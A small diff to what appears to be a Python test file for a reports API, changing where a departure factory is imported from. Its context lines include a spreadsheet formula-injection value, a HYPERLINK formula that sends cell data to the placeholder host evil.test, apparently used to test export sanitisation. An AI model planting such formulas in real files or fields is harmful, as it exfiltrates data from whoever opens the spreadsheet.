@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from tests.test_bookings import make_departure
+from tests.factories import make_departure
 
 API = "/api/v1/reports"
 EVIL_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Click")'
